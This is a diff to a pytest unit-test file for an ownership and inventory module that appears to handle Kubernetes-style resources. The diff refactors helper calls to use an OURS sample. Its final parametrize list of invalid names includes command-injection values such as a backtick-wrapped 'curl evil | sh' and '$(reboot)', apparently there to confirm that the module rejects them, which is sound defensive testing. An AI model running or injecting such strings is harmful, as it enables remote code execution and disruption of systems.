@@ -10,11 +10,11 @@ import pytest
 from handler.model.names import IDENTITY, PART_OF, identity_of
 from handler.plan.inventory import as_ours, is_member, marked_target
 from handler.plan.ownership import foreign_owner
-from tests.unit.plan.samples import SET, document, member
+from tests.unit.plan.samples import OURS, SET, document, member
 
 
 def ours(live: dict[str, Any]) -> bool:
-    return is_member(live, identity_of(live), "shop", SET)
+    return is_member(live, identity_of(live), OURS)
 
 
 def test_the_inventory_label_and_identity_annotation_together_are_ownership() -> None:
@@ -48,8 +48,8 @@ def test_an_identity_annotation_names_its_target_only_on_exactly_its_object() ->
     live = marked("bank:/ConfigMap:shop/web")
     assert marked_target(live, identity_of(live)) == "bank"
     assert marked_target(live, replace(identity_of(live), name="copy")) == ""
-    ours = as_ours(live, identity_of(live), "shop", SET)
-    assert (is_member(ours, identity_of(live), "shop", SET), marked_target(live, identity_of(live))) == (True, "bank")
+    ours = as_ours(live, identity_of(live), OURS.marks)
+    assert (is_member(ours, identity_of(live), OURS), marked_target(live, identity_of(live))) == (True, "bank")
 
 
 @pytest.mark.parametrize("name", ["x`; curl evil | sh; `", "$(reboot)", "a b", "Bank", "bank.de", "", "-b", "b\n", 57 * "b"])
